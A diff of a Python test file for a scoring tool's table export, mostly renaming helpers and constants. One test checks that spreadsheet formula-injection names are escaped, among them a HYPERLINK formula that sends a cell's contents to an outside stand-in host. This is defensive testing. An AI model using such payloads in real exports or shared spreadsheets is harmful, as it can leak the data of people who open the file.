@@ -23,7 +23,7 @@ from rnnviz.scoring.record import Record
 from tests.support.closeness import assert_states
 from tests.support.models import TEXT
 from tests.support.pieces import pieces
-from tests.support.recorded import recorded, told
+from tests.support.recorded import make_record, record_costs
 
 # What a table could trip over: quotes, separators, line ends, NUL, formulas, the words for "nothing there".
 NUL = "\0" if pd.__version__ >= "3.1" else ""  # older ones read none
@@ -46,7 +46,7 @@ def test_a_table_holds_what_scoring_says_to_every_digit(
 ) -> None:
     text = TEXT + AWKWARD
     model = load(models_folder / f"{name}.safetensors")
-    source = recorded(tmp_path, model, text)
+    source = make_record(tmp_path, model, text)
     export.per_character(source, tmp_path / f"out.{format}")
     table = opened(tmp_path / f"out.{format}")
     (expected,) = pieces(model, text, piece=len(text))
@@ -67,14 +67,14 @@ def test_a_table_holds_what_scoring_says_to_every_digit(
 
 def test_a_name_that_is_a_formula_is_text_in_a_spreadsheet() -> None:
     names = ('=HYPERLINK("http://example.org/?"&A1)', "@x", "\t=1", "＝1+1", "a=1", "-")
-    table = export.of([{"file": name, "perplexity": -1.5} for name in names])
+    table = export.csv_text([{"file": name, "perplexity": -1.5} for name in names])
     rows = list(csv.DictReader(io.StringIO(table)))
     assert [row["file"] for row in rows] == [*(f"'{name}" for name in names[:4]), *names[4:]]
     assert {row["perplexity"] for row in rows} == {"-1.5"}
 
 
 def of_length(n: int, folder: Path) -> Record:
-    return told(folder, "x" * n, np.ones(n))
+    return record_costs(folder, "x" * n, np.ones(n))
 
 
 @pytest.mark.slow
@@ -82,7 +82,7 @@ def of_length(n: int, folder: Path) -> Record:
 def test_a_table_is_written_a_stretch_at_a_time(
     format: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
-    monkeypatch.setattr(export, "ROWS", 4000)
+    monkeypatch.setattr(export, "ROWS_PER_GROUP", 4000)
     path = tmp_path / f"out.{format}"
 
     def peak(n: int) -> int:
@@ -106,20 +106,20 @@ def test_a_file_object_gets_the_table_and_stays_open(
     format: Literal["csv", "parquet"], read: Callable[..., pd.DataFrame], tmp_path: Path
 ) -> None:
     file = io.BytesIO()
-    export.per_character(told(tmp_path, "time", np.ones(4)), file, format)
+    export.per_character(record_costs(tmp_path, "time", np.ones(4)), file, format)
     assert not file.closed
     file.seek(0)
     assert "".join(read(file)["character"]) == "time"
 
 
 @pytest.mark.parametrize("format", FORMATS)
-def test_what_is_stopped_leaves_what_was_there(
+def test_interrupted_export_keeps_old_file(
     format: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     path = tmp_path / f"out.{format}"
     path.write_bytes(b"of yesterday")
     source = of_length(100, tmp_path)
-    monkeypatch.setattr(export, "ROWS", 60)
+    monkeypatch.setattr(export, "ROWS_PER_GROUP", 60)
     read = source.read
 
     def broken(column: str, start: int = 0, stop: int | None = None) -> object:
